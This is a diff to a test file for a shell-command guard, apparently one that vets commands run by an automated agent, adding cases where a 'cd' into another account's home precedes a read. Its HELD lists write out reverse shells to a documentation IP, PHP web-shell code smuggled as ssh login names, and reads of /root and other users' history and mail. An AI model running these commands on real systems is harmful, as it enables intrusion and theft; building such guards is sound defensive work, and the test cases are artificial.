@@ -16,6 +16,8 @@ got past the guards. The commands here are variants written for the tests, not t
   of code (``?ajax_path=/home/u/shell.php``: a local file inclusion of an uploaded shell); a shell command
   line as the value of a script's code option (``php exploit.php -c "nc -e /bin/sh IP 4444"``), which is
   judged and asked (``manage.py shell -c CODE`` is Python, and stays allowed);
+- (from session 17's list) a file named relative to another account's home a ``cd`` in the line moved
+  to (``cd /root && cat root.txt``): read from there as if named from the root;
 - (wrongly held) ``find / -name '*-*'``: a name test of wildcards and punctuation picks every file, not a
   kind of secret.
 """
@@ -56,6 +58,11 @@ HELD = {
         "python3 cve.py -u http://app.example/ -c 'bash -c \"sh -i >& /dev/tcp/203.0.113.9/91 0>&1\"'",
         "ruby rce.rb --command 'nc 203.0.113.9 4444 -e /bin/sh' http://app.example/",
     ],
+    "another account's file named after a cd": [
+        "cd /root; cat flag.txt",
+        "cd /home/alice && head -n 5 .bash_history notes.txt",
+        "cd /var/mail && cat bob",
+    ],
     "code as a login name": [
         "ssh -l '<?php passthru($_REQUEST[\"x\"]); ?>' 192.0.2.10",
         "sshpass -p x ssh '<?=`$_GET[1]`?>'@192.0.2.10",
@@ -74,6 +81,9 @@ ALLOWED = [
     "ssh -l git github.com",
     "ftp ftp.example.com",
     "find / -type f -name '*-*' 2>/dev/null",
+    "cd /srv/app && cat config.yml",
+    "cd ~/proj && cat notes.txt",
+    "cd /tmp && cat build.log",
     "find . -name '*_*' -newer setup.py",
     "python manage.py shell -c 'from app.models import User; print(User.objects.count())'",
     "curl 'https://api.example.com/hooks?callback=https://hooks.example.com/build'",
